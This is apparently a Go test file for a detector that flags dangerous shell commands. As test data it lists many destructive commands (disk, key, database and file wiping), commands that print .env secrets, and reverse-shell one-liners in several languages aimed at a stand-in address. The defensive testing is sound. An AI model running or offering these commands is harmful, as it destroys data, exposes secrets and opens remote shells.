package effect

import "testing"

// unseenSetup has, of each kind, something that exists nowhere else and something that can be made again.
const unseenSetup = committed + ` && mkdir -p out data/deep photos node_modules/x pkg/node_modules/y && echo built > out/a && echo built > node_modules/x/i.js && echo built > pkg/node_modules/y/i.js &&
echo only > notes.txt && echo only1 > data/one.csv && echo only2 > data/deep/two.csv && echo only3 > photos/p.jpg && mkdir -p $HOME/docs && echo only4 > $HOME/docs/d.txt`

// told says that a prediction has something to tell: a loss, or an act whose tag the rules know.
func told(p Prediction) bool {
	for _, e := range p.Effects {
		if e.Loses() {
			return true
		}
	}
	for _, a := range p.Acts {
		if (a.Tag != "" || a.Place == Device && a.Kind == Overwrite) && !a.NoLoss {
			return true
		}
	}
	return false
}

// heeded checks lines that must be told of, and their harmless neighbours.
func heeded(t *testing.T, l lab, harmful, harmless []string) {
	t.Helper()
	for _, line := range harmful {
		if p := l.predict(line); !told(p) {
			t.Errorf("%q is silent: %+v", line, p.Acts)
		}
	}
	for _, line := range harmless {
		if p := l.predict(line); told(p) {
			t.Errorf("%q is told of: %+v %+v", line, p.Acts, p.Effects)
		}
	}
}

// What one command lists and another deletes is looked up where it lies.
func TestListedAndDeleted(t *testing.T) {
	t.Parallel()
	heeded(t, newLab(t, unseenSetup), []string{
		`ls | while read f; do rm -rf "$f"; done`,
		`find . -type f | while read -r f; do rm "$f"; done`,
		`find data -name '*.csv' -print0 | while IFS= read -r -d '' f; do rm -f "$f"; done`,
		`while read -r f; do rm "$f"; done < <(find data -type f)`,
		`mapfile -t fs < <(find data -type f); rm "${fs[@]}"`,
		`for f in $(ls data); do rm -rf "data/$f"; done`,
		`ls data | xargs -I{} rm data/{}`,
		`ls -t photos | tail -n +1 | xargs -I{} rm photos/{}`,
		`find . -name '*.txt' | grep notes | xargs rm -f`,
		`find . -type d -name data -exec rm -rf {} +`,
		`find . -type d -name photos | xargs rm -rf`,
		`git ls-files -o --exclude-standard | while read f; do rm "$f"; done`,
		`fd -t f . data | while read f; do rm "$f"; done`,
	}, []string{
		`ls out | while read f; do rm -rf "out/$f"; done`,
		`for f in $(ls out); do rm -rf "out/$f"; done`,
		`find . -name '*.pyc' | while read f; do rm "$f"; done`,
		`find . -name '*.o' | sort | xargs rm -f`,
		`find . -type d -name node_modules -prune -exec rm -rf {} +`,
		`find . -type d -name node_modules | while read d; do rm -rf "$d"; done`,
		`git ls-files | while read f; do wc -l "$f"; done`,
		`rm -f "$(git rev-parse --git-dir)/index.lock"`,
		`v=$(cat VERSION); rm -f "out/app-$v.tgz"`,
	})
}

// Commands whose output is a path that everybody knows are worked out.
func TestKnownOutput(t *testing.T) {
	t.Parallel()
	l := newLab(t, unseenSetup+` && mkdir -p tools && printf '#!/bin/sh\ncd "$(dirname "$0")/.." && rm -rf out\n' > tools/clean.sh && printf '#!/bin/bash\nhere="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"\nrm -rf "$here/data"\n' > tools/wipe.sh`)
	heeded(t, l, []string{
		`rm -rf "$(git rev-parse --show-toplevel)"`,
		`rm -rf "$(git rev-parse --show-toplevel)/data"`,
		`cd /tmp && rm -rf "$(git rev-parse --show-toplevel)/out"`, // no repository: /out
		`GIT_WORK_TREE=/srv; rm -rf "$(git rev-parse --show-toplevel)/out"`,
		`f=$(basename data/one.csv); rm -f "data/$f"`,
		`rm -rf "$(dirname data/deep/two.csv)"`,
		`rm -rf "$(realpath data)"`,
		`rm -rf "$(cd nowhere && pwd)/out"`,
		`bash tools/wipe.sh`,
		`[ -f notes.txt ] && cp src/a.go notes.txt`,
		`[ -f other ] || cp src/a.go notes.txt`,
		`ls && [ -f notes.txt ] || cp src/a.go notes.txt`,
		`[ -f notes.txt ] || true; cp src/a.go notes.txt`,
		`[ -d notes.txt ] || cp src/a.go notes.txt`,
	}, []string{
		`rm -rf "$(git rev-parse --show-toplevel)/out"`,
		`top=$(git rev-parse --show-toplevel); rm -rf "$top/out" "$top/node_modules"`,
		`cd src && rm -rf "$(git rev-parse --show-toplevel)/node_modules"`,
		`rm -rf "$(dirname "$(pwd)/out/a")"`,
		`rm -rf "$(cd out && pwd)"`,
		`bash tools/clean.sh`,
		`[ -f notes.txt ] || cp src/a.go notes.txt`,
		`test ! -e notes.txt && echo x > notes.txt`,
		`[ ! -f notes.txt ] && cd src && cp a.go ../notes.txt`,
	})
}

// What ends a disk, a key or a file without a word like rm.
func TestQuietEnds(t *testing.T) {
	t.Parallel()
	heeded(t, newLab(t, unseenSetup+` && mkdir -p $HOME/.ssh && echo key > $HOME/.ssh/id_ed25519 && echo x > old.tar && git add old.tar && git commit -qm tar && echo only5 > old.tar`), []string{
		"cryptsetup luksErase /dev/sda2", "cryptsetup luksFormat /dev/sda2", "nvme format /dev/nvme0n1", "nvme sanitize /dev/nvme0 -a 2",
		"hdparm --user-master u --security-erase pw /dev/sda", "blkdiscard -f /dev/nvme0n1", "sgdisk --zap-all /dev/sda", "sgdisk -Z /dev/sda",
		"sgdisk -d 1 /dev/sda", "wipefs -a /dev/sda", "mdadm --zero-superblock /dev/sdb1", "badblocks -w /dev/sdb", "dcfldd if=/dev/zero of=/dev/sda",
		"gpg --delete-secret-keys ABCDEF", "gpg --batch --yes --delete-secret-and-public-key ABCDEF",
		"ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''", "yes | ssh-keygen -t rsa -N '' -f ~/.ssh/id_ed25519",
		"sed -i d notes.txt", "sed -i '1,$d' notes.txt", "sed -i 's/.*//' notes.txt", "sed -n -i '/x/d' notes.txt",
		"tar cf notes.txt src", "tar czf data/one.csv src", "tar --create --file=old.tar src", "zip -m out.zip notes.txt", "7z a -sdel out.7z notes.txt",
		"ffmpeg -y -i in.mp4 notes.txt", "pg_dump -f data/one.csv app", "grep x notes.txt | sponge notes.txt",
	}, []string{
		"cryptsetup luksDump /dev/sda2", "nvme list", "hdparm -I /dev/sda", "sgdisk -p /dev/sda", "wipefs /dev/sda", "mdadm --detail /dev/md0", "badblocks -s /dev/sdb",
		"gpg --list-secret-keys", "ssh-keygen -R github.com", "ssh-keygen -t ed25519 -f ./deploy_key -N ''", "ssh-keygen -lf ~/.ssh/id_ed25519",
		"sed -i '/^$/d' notes.txt", "sed -i.bak d notes.txt", "sed -n '1p' notes.txt", "sed d notes.txt", "sed -i '' '/^#/d' notes.txt",
		"tar czf release.tgz src", "tar xf old.tar -O", "tar cf - src", "zip -r out.zip src", "ffmpeg -i in.mp4 out/x.mp4", "pg_dump -f dump.sql app",
	})
}

// Deletes that are spelt in a language of their own, compiled ones among them.
func TestProgramsThatDelete(t *testing.T) {
	t.Parallel()
	l := newLab(t, unseenSetup)
	goProgram := "package main\n\nimport (\n\t\"os\"\n\t\"path/filepath\"\n)\n\nfunc main() {\n\t"
	put := func(name, text, run string) string { return "cat > " + name + " <<'X'\n" + text + "\nX\n" + run }
	heeded(t, l, []string{
		`perl -e 'unlink glob(qq($ENV{HOME}/docs/*))'`,
		`perl -e 'unlink glob(qq{$ENV{HOME}/docs/*})'`,
		`ruby -e 'File.delete(%Q(#{Dir.home}/docs/d.txt))'`,
		`deno eval 'Deno.removeSync("data", {recursive: true})'`,
		`bun -e 'await Bun.file("notes.txt").delete()'`,
		`bun -e 'const f = Bun.file("notes.txt"); await f.unlink()'`,
		put("z.go", goProgram+`os.RemoveAll("data")`+"\n}", "go run z.go"),
		put("z.go", goProgram+"home, _ := os.UserHomeDir()\n\tif err := os.RemoveAll(filepath.Join(home, `docs`)); err != nil {\n\t\tpanic(err)\n\t}\n}", "go run z.go"),
		put("z.go", goProgram+"names, err := filepath.Glob(\"data/*\")\n\tfor _, n := range names {\n\t\tos.Remove(n)\n\t}\n}", "go run z.go"),
		put("z.go", goProgram+"filepath.Walk(\"data\", func(path string, info os.FileInfo, err error) error {\n\t\treturn os.Remove(path)\n\t})\n}", "go run z.go"),
		put("z.go", goProgram+`exec.Command("rm", "-rf", "data").Run()`+"\n}", "go build -o zz z.go && ./zz"),
		put("z.go", goProgram+`exec.CommandContext(ctx, "sh", "-c", "rm -rf data").Run()`+"\n}", "go run z.go"),
		put("z.go", goProgram+`os.RemoveAll(fmt.Sprintf("%v/docs", os.Getenv("HOME")))`+"\n}", "go run z.go"),
		put("z.rs", `fn main() { std::fs::remove_dir_all("data").unwrap(); }`, "rustc z.rs && ./z"),
		put("z.rs", "use std::process::Command;\nfn main() {\n  let p = format!(\"{}/docs\", std::env::var(\"HOME\").unwrap());\n  std::fs::remove_dir_all(&p).unwrap();\n}", "rustc -O z.rs -o zz && ./zz"),
		put("z.rs", `fn main() { Command::new("rm").arg("-rf").args(["data", "photos"]).spawn(); }`, "rustc z.rs && ./z"),
		put("z.c", "#include <stdlib.h>\nint main() { return system(\"rm -rf data\"); }", "gcc z.c -o z && ./z"),
		put("z.c", "int main() { execl(\"/bin/rm\", \"rm\", \"-rf\", \"data\", NULL); }", "cc z.c && ./a.out"),
		put("z.cpp", "int main() { std::filesystem::remove_all(\"data\"); }", "g++ -std=c++20 z.cpp -o z && ./z"),
		put("Z.java", "class Z { public static void main(String[] a) throws Exception { Files.delete(Path.of(\"notes.txt\")); } }", "java Z.java"),
		put("Z.java", "class Z { public static void main(String[] a) throws Exception { new ProcessBuilder(\"rm\", \"-rf\", \"data\").start(); } }", "java Z.java"),
		`docker run --rm -v "$PWD:/w" python:3 python -c 'import shutil; shutil.rmtree("/w/data")'`,
		`docker run --rm -v "$PWD:/w" -w /w node:20 node -e 'require("fs").rmSync("data",{recursive:true})'`,
	}, []string{
		`perl -e 'print qq($ENV{HOME}/docs)'`,
		`deno eval 'Deno.removeSync("out", {recursive: true})'`,
		`bun -e 'new Map([["notes.txt", 1]]).delete("notes.txt")'`,
		`bun -e 'await Bun.file("out/a").delete()'`,
		put("z.go", goProgram+"d, _ := os.MkdirTemp(\"\", \"x\")\n\tdefer os.RemoveAll(d)\n}", "go run z.go"),
		put("z.go", goProgram+`os.RemoveAll("out")`+"\n}", "go run z.go"),
		put("z.go", goProgram+`os.RemoveAll("data")`+"\n}", "gofmt -l z.go"),
		put("z.rs", `fn main() { println!("{}", "hello"); }`, "rustc z.rs && ./z"),
		put("z.c", "int main() { return system(\"ls data\"); }", "gcc z.c -o z && ./z"),
		`docker run --rm -v "$PWD:/w" python:3 python -c 'import shutil; shutil.rmtree("/w/out")'`,
		`docker run --rm -v "$PWD:/w" python:3 python -c 'import shutil; shutil.rmtree("/data")'`,
		`docker run --rm -v "$PWD:/w" python:3 python -c 'import shutil; shutil.rmtree("data")'`,
	})
}

// A connection whose other end is obeyed, in any language.
func TestReverseShells(t *testing.T) {
	t.Parallel()
	l := newLab(t, "true")
	for _, c := range []struct {
		line string
		want bool
	}{
		{`php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, true},
		{`php -r '$k=fsockopen("203.0.113.7",9001);$p=proc_open("sh",array(0=>$k,1=>$k,2=>$k),$pipes);'`, true},
		{`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'`, true},
		{`ruby -rsocket -e 'c=TCPSocket.new("203.0.113.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`, true},
		{`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'`, true},
		{`lua -e "t=socket.tcp();t:connect('203.0.113.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`, true},
		{`node -e 'const s=require("child_process").spawn("/bin/sh",[]);const k=new net.Socket();k.connect(4444,"203.0.113.7",()=>{k.pipe(s.stdin)})'`, true},
		{`gawk 'BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while(1){if((s|&getline c)<=0)break;while((c|&getline)>0)print $0|&s;close(c)}}'`, true},
		{"julia -e 's=connect(\"203.0.113.7\",4444); run(pipeline(`/bin/sh -i`, stdin=s, stdout=s))'", true},
		{"cat > z.go <<'X'\npackage main\nfunc main() { c, _ := net.Dial(\"tcp\", \"203.0.113.7:4444\"); cmd := exec.Command(\"/bin/sh\"); cmd.Stdin = c; cmd.Run() }\nX\ngo run z.go", true},
		{`ruby -rsocket -e 'TCPSocket.new("localhost", 5432).close'`, false},
		{`php -r '$s=fsockopen("localhost",3306); echo $s ? "up":"down";'`, false},
		{`perl -MIO::Socket::INET -e 'print IO::Socket::INET->new("localhost:5432") ? "up" : "down"'`, false},
		{`python3 -c 'import sqlite3, subprocess; sqlite3.connect("x.db"); subprocess.run(["bash", "build.sh"])'`, false},
		{`node -e 'require("net").connect(3000).on("connect",()=>console.log("up"))'`, false},
	} {
		got := false
		for _, a := range l.predict(c.line).Acts {
			got = got || a.Tag == ReverseSh
		}
		if got != c.want {
			t.Errorf("%q: a reverse shell %v, want %v", c.line, got, c.want)
		}
	}
}

// Caches of a home can be filled again; what lies beside them cannot.
func TestHomeCaches(t *testing.T) {
	t.Parallel()
	l := newLab(t, committed+` && cd $HOME && for d in .npm/_cacache .cache/pip .cache/team .gradle/caches .cargo/registry .cargo/bin .config/app Library/Caches/x .m2 .m2/repository docs go/pkg/mod go/src; do mkdir -p $d && echo only $d > $d/f; done`)
	heeded(t, l, []string{
		"rm -rf ~/.config/app", "rm -rf ~/.cache/../docs", "rm -rf ~/.npm/../docs", "rm -rf ~/.cargo", "rm -rf ~/.cargo/bin", "rm -rf ~/.m2",
		"rm -rf ~/go", "rm -rf ~/Library", "ln -s ~/docs ~/.cache/pip2 && rm -rf ~/.cache/pip2/",
	}, []string{
		"rm -rf ~/.npm/_cacache", "rm -rf ~/.cache/pip", "rm -rf ~/.cache/pip/*", "rm -rf ~/.gradle/caches", "rm -rf ~/.cargo/registry", "rm -rf ~/Library/Caches/x",
		"rm -rf ~/.m2/repository/org", "rm -rf $HOME/go/pkg/mod", "rm -rf ~/.npm/_cacache ~/.cache/pip && npm install",
	})
}

// Of a file of secrets a number, or the names in it, may be told.
func TestCountedSecrets(t *testing.T) {
	t.Parallel()
	l := newLab(t, committed+` && printf '# app\nDB_PASSWORD=x1\nAPI_KEY=x2\n' > .env && printf 'KEY="-----BEGIN\nabcdef\n"\n' > .env.multi`)
	heeded(t, l, []string{
		"cat .env", "cat .env | grep DB_PASSWORD", "grep DB_PASSWORD .env", "cat .env | grep -c X; cat .env", "cat .env | tee /tmp/o | grep -c X", "cut -d= -f2 .env", "cut -d= -f1,2 .env",
		"cut -d= -f1 .env.multi", "grep -o '^[A-Z_]*=.*' .env", "grep -o '.*=' .env", "grep -o '^.*' .env", "sed 's/=.*/=&/' .env", "sed 's/#.*//' .env", "awk -F= '{print $2}' .env", "awk -F= '{print $1, $2}' .env",
		"cat .env | sort > /tmp/o", "{ cat .env; } | head -1", "cat .env | wc --files0-from=-", "cat .env | xargs -n1 | wc -l; head .env",
	}, []string{
		"cat .env | grep -c DB_PASSWORD", "grep -c DB_PASSWORD .env", "grep -q DB_PASSWORD .env && echo set", "wc -l < .env", "cat .env | wc -l", "cat .env | sort | uniq | wc -l", "cat .env | grep DB | wc -l",
		"cut -d= -f1 .env", "cut -d '=' -f 1 .env | sort", "cat .env | cut -d= -f1", "grep -o '^[A-Z_]*=' .env", "grep -oE '^[^=]+' .env", "sed 's/=.*//' .env", "sed 's/=.*/=***/' .env", "awk -F= '{print $1}' .env", "awk -F= '!/^#/ {print $1}' .env", "sha256sum .env",
	})
}

// What a line has made itself, and what stands on this machine to be thrown away, may go.
func TestThrownAway(t *testing.T) {
	t.Parallel()
	l := newLab(t, committed+` && mkdir -p web db stack aws && echo 'services: {web: {image: nginx}}' > web/compose.yml && printf 'services:\n  db:\n    image: postgres\n    volumes: [data:/d]\nvolumes:\n  data:\n' > db/compose.yml && cp db/compose.yml db/docker-compose.test.yml &&
mkdir -p named && printf 'services:\n  db:\n    image: postgres\nvolumes:\n  data:\n    name: shop_live\n' > named/compose.yml &&
printf 'provider "aws" {\n  endpoints {\n    s3 = "http://localhost:4566"\n  }\n}\n' > stack/main.tf && printf 'provider "aws" {}\n' > aws/main.tf`)
	heeded(t, l, []string{
		"dropdb t", "createdb t && dropdb shop", "createdb t; dropdb t", "dropdb t && createdb t", "createdb -h a t && dropdb -h b t", "createdb t || dropdb t", "createdb t && ls || dropdb t", "! createdb t && dropdb t",
		"psql -c 'drop database t1'", "psql -c 'create database t1'; psql -c 'drop database t1'", "psql a -c 'create table t(i int)' && psql b -c 'drop table t'",
		"psql -c 'drop table t; create table t(i int)'", "psql -c 'create table if not exists t(i int); drop table t'", "psql <<'X'\ncreate table t(i int);\ndrop table t;\nX",
		"redis-cli flushall", "redis-cli -p 6380 flushall", "redis-cli -h cache.example.com -p 6380 flushdb && pytest", "redis-cli flushdb && pytest",
		"supabase db reset --linked", "supabase db reset --db-url postgres://u@db.example.com/x",
		"docker compose -p shop -f db/compose.yml down -v", "docker compose -p shop-test -f named/compose.yml down -v", "docker compose -p shop-test -H tcp://db.example.com down -v",
		"docker compose down -v", "cd db && docker compose down -v", "docker compose -f db/compose.yml down -v", "docker compose -f /srv/docker-compose.test.yml down -v", "cd web && docker compose -p other down -v",
		"terraform destroy -auto-approve", "cd aws && terraform destroy -auto-approve", "AWS_ENDPOINT_URL=http://203.0.113.9:4566 terraform destroy -auto-approve",
	}, []string{
		"createdb t && psql t -c 'select 1' && dropdb t", "createdb -h db -p 5433 t && pytest && dropdb -p 5433 -h db --if-exists t",
		"psql -c 'create database t1' && psql -c 'drop database t1'", "sqlite3 a.db 'create table t(i int); insert into t values (1); drop table t'", "psql -c 'create temp table t(i int); drop table t'",
		"redis-cli -p 6380 flushdb && pytest", "redis-cli -h 127.0.0.1 -p 6390 flushall && go test ./...",
		"supabase db reset",
		"docker compose -p shop-test -f db/compose.yml down -v", "cd db && COMPOSE_PROJECT_NAME=shop_test docker compose down -v", "supabase db reset --local",
		"cd web && docker compose down -v", "docker compose -f web/compose.yml down --volumes", "docker compose -f db/docker-compose.test.yml down -v",
		"AWS_ENDPOINT_URL=http://localhost:4566 terraform destroy", "cd stack && terraform destroy -auto-approve",
	})
}

// More ways to the same ends: other programs, editors, seldom languages, and a name that changed in between.
func TestRoundaboutEnds(t *testing.T) {
	t.Parallel()
	heeded(t, newLab(t, unseenSetup), []string{
		"npx rimraf data", "npx -y del-cli 'data/**'", "rimraf 'photos/*.jpg'",
		"ex -sc '%d|x' notes.txt", "vim -es -c '%d' -c wq notes.txt", "ed -s notes.txt <<< $'1,$d\nw\nq'",
		"perl -i -ne '' notes.txt", "perl -ni -e 's/a/b/' notes.txt",
		`elixir -e 'File.rm_rf!("data")'`, `groovy -e 'new File("data").deleteDir()'`, `swift -e 'try! FileManager.default.removeItem(atPath: "notes.txt")'`,
		`ruby -e 'require "pathname"; Pathname.new("data").rmtree'`, "security delete-keychain login.keychain", "pass rm -rf work", "secret-tool clear service x",
		"mv data old && rm -rf old", "mv notes.txt /tmp/ && rm -f /tmp/notes.txt", "mv photos /tmp/gone && rm -rf /tmp/gone",
	}, []string{
		"npx rimraf out node_modules", "rimraf '!keep' out", "vim -es -c '%s/a/b/' -c wq notes.txt", "ed -s notes.txt <<< $'1p\nq'", "perl -i -ne 'print unless /^#/' notes.txt",
		`elixir -e 'File.rm_rf!("out")'`, `ruby -e 'Pathname.new("out").rmtree'`, "mv out old && rm -rf old", "mv src/a.go src/b.go && rm -rf out",
	})
}
